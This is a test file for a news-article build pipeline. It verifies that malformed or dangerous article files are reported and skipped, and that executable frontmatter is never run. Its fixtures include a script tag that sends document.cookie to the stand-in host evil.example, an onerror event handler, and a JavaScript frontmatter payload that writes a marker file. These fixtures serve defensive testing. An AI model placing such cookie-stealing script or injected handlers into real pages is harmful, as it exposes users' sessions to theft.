/**
 * Bad articles are reported by file and reason and skipped; the build goes on with the others.
 * Executable frontmatter is refused without being run: its payload would leave a file behind.
 */
import { existsSync } from 'node:fs';
import { open, readdir } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { MAX_ARTICLE_BYTES } from '../../scripts/pipeline/articles.ts';
import type { RunResult } from '../../scripts/pipeline/index.ts';
import { addArticle, build, cleanRoots, makeRoot, printed } from './helpers.ts';

let root = '';
let result: RunResult;
const marker = (name: string) => path.join(root, `executed-${name}`);
const payload = (name: string) => `(function () { require('fs').writeFileSync(${JSON.stringify(marker(name))}, 'ran'); return { title: 'x' }; })()`;
const BODY = 'Leaders of 35 countries met in Paris on Tuesday to agree security guarantees for Ukraine.\n';

const SKIPPED: Record<string, string> = {
  'empty.txt': 'articles/empty.txt:1:1  article-empty  File is empty; add the article text or delete the file. Skipped.',
  'blank.md': 'articles/blank.md:1:1  article-empty  File is empty; add the article text or delete the file. Skipped.',
  'only-frontmatter.md': 'articles/only-frontmatter.md:1:1  article-empty  No article text was found in the file; add the text or delete the file. Skipped.',
  'image.txt': 'articles/image.txt:1:1  article-binary  File is binary, not text; save the article as .txt, .md or .html. Skipped.',
  'huge.txt': `articles/huge.txt:1:1  article-too-large  File is 5.0 MB, over the 5 MB limit for one article; split it or remove what is not the article. Skipped.`,
  'script.txt': 'articles/script.txt:1:1  article-markup  Text contains script or embedded markup (<script>, <iframe>, event handlers); save the article as clean text or as the full .html page. Skipped.',
  'handler.md': 'articles/handler.md:1:1  article-markup  Text contains script or embedded markup (<script>, <iframe>, event handlers); save the article as clean text or as the full .html page. Skipped.',
  'js.md': 'articles/js.md:1:1  frontmatter-engine  Unexpected `---js` frontmatter, expected YAML between `---` lines. Executable frontmatter is never run; rewrite it as YAML.',
  'javascript.md': 'articles/javascript.md:1:1  frontmatter-engine  Unexpected `---javascript` frontmatter, expected YAML between `---` lines. Executable frontmatter is never run; rewrite it as YAML.',
  'spaced-js.md': 'articles/spaced-js.md:1:1  frontmatter-engine  Unexpected `---JS` frontmatter, expected YAML between `---` lines. Executable frontmatter is never run; rewrite it as YAML.',
  'js.txt': 'articles/js.txt:1:1  frontmatter-engine  Unexpected `---js` frontmatter, expected YAML between `---` lines. Executable frontmatter is never run; rewrite it as YAML.',
  'bad-yaml.md': 'articles/bad-yaml.md:3:6  frontmatter-syntax  Invalid YAML frontmatter: Nested mappings are not allowed in compact mappings. Fix the YAML syntax (quote a value that contains `: ` or starts with a special character).',
};
const WARNED: Record<string, string> = {
  'cp1252.txt': 'articles/cp1252.txt:1:1  article-encoding  File is not valid UTF-8; read it as Windows-1252. Re-save it as UTF-8 to silence this warning.',
  'utf16.txt': 'articles/utf16.txt:1:1  article-encoding  File is UTF-16LE; read it as such. Re-save it as UTF-8 to silence this warning.',
};

beforeAll(async () => {
  root = await makeRoot(['a-reuters.txt', 'b-ap.txt']);
  await addArticle(root, 'empty.txt', '');
  await addArticle(root, 'blank.md', '\uFEFF  \n\n\t\n');
  await addArticle(root, 'only-frontmatter.md', '---\ntitle: Nothing here\n---\n');
  await addArticle(root, 'image.txt', Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]));
  const huge = await open(path.join(root, 'articles', 'huge.txt'), 'w');
  await huge.truncate(MAX_ARTICLE_BYTES + 1);
  await huge.close();
  await addArticle(root, 'script.txt', `Paris talks\n${BODY}<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n`);
  await addArticle(root, 'handler.md', `# Paris talks\n\n${BODY}\n<img src="x.png" onerror="alert(1)">\n`);
  await addArticle(root, 'js.md', `---js\n${payload('js')}\n---\n${BODY}`);
  await addArticle(root, 'javascript.md', `---javascript\n${payload('javascript')}\n---\n${BODY}`);
  await addArticle(root, 'spaced-js.md', `--- JS\n${payload('spaced')}\n---\n${BODY}`);
  await addArticle(root, 'js.txt', `---js\n${payload('txt')}\n---\n${BODY}`);
  await addArticle(root, 'bad-yaml.md', `---\ntitle: Paris talks\nurl: https://example.com/a: b\n---\n${BODY}`);
  // “Zelenskyy” in Windows-1252 curly quotes, and an é: invalid as UTF-8.
  await addArticle(root, 'cp1252.txt', Buffer.concat([Buffer.from('Caf'), Buffer.from([0xe9]), Buffer.from(' diplomacy in Paris\nZelenskyy said the pledges were '), Buffer.from([0x93]), Buffer.from('concrete content'), Buffer.from([0x94]), Buffer.from(' and not just words.\n')]));
  await addArticle(root, 'utf16.txt', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`Kyiv reacts\n${BODY}`, 'utf16le')]));
  result = await build(root);
});
afterAll(cleanRoots);
// Each case runs the whole pipeline on a temp root; the machine is shared, so allow for a slow one.
vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 });

describe('bad articles', () => {
  it('are each reported by file and reason, exactly', () => {
    expect(printed(result)).toEqual(Object.values({ ...SKIPPED, ...WARNED }).sort((a, b) => a.localeCompare(b)));
  });

  it('are skipped while the other articles still build', async () => {
    expect(result.ok).toBe(true);
    const sources = (await readdir(path.join(root, 'sources'))).sort();
    expect(sources).toEqual(['a-reuters.md', 'b-ap.md', 'cp1252.md', 'utf16.md']);
    expect(result.claims.some((c) => c.sources.includes('a-reuters') && c.sources.includes('b-ap'))).toBe(true);
  });

  it('never execute ---js or ---javascript frontmatter', () => {
    for (const name of ['js', 'javascript', 'spaced', 'txt']) expect(existsSync(marker(name))).toBe(false);
  });

  it('decode Windows-1252 and UTF-16 with a warning', () => {
    const cp = result.claims.find((c) => c.sources.includes('cp1252'));
    expect(cp?.appearances.find((a) => a.source === 'cp1252')?.sentence).toBe('Zelenskyy said the pledges were “concrete content” and not just words.');
    expect(result.claims.some((c) => c.sources.includes('utf16') && c.sources.includes('a-reuters'))).toBe(true);
  });
});
